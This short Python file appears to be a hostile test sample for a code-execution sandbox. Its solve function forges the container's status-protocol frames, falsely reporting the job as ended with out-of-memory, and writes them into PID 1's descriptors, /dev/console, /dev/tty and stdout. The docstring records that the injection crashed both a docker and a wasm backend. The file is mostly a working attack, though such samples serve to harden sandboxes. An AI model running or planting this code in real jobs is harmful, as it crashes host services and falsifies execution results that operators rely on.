"""Write frames of the container's own protocol onto every descriptor and into those of PID 1.

threats: 44
docker: crashed
wasm: crashed
"""

import json
import os
import struct

from hostile import raw

ENDED = {"how": "ended", "signal": 0, "code": 0, "cpu_seconds": 0, "memory_kib": 0}


def solve(task):
    data = b""
    text = json.dumps({**ENDED, "out_of_memory": True}).encode()
    for kind in (16, 17, 18, 19, 20, 1, 3, 5):
        for job in range(64):
            data += struct.pack(">IBI", len(text), kind, job) + text
            data += struct.pack(">BxxxI", 1, len(text) + 9) + data[-len(text) - 9 :]
    for name in (
        "/proc/1/fd/0",
        "/proc/1/fd/1",
        "/proc/1/fd/2",
        "/dev/stdout",
        "/dev/console",
        "/dev/tty",
    ):
        try:
            with open(name, "wb", 0) as file:
                file.write(data)
        except OSError:
            continue
    raw(data, range(40))
    os._exit(0)
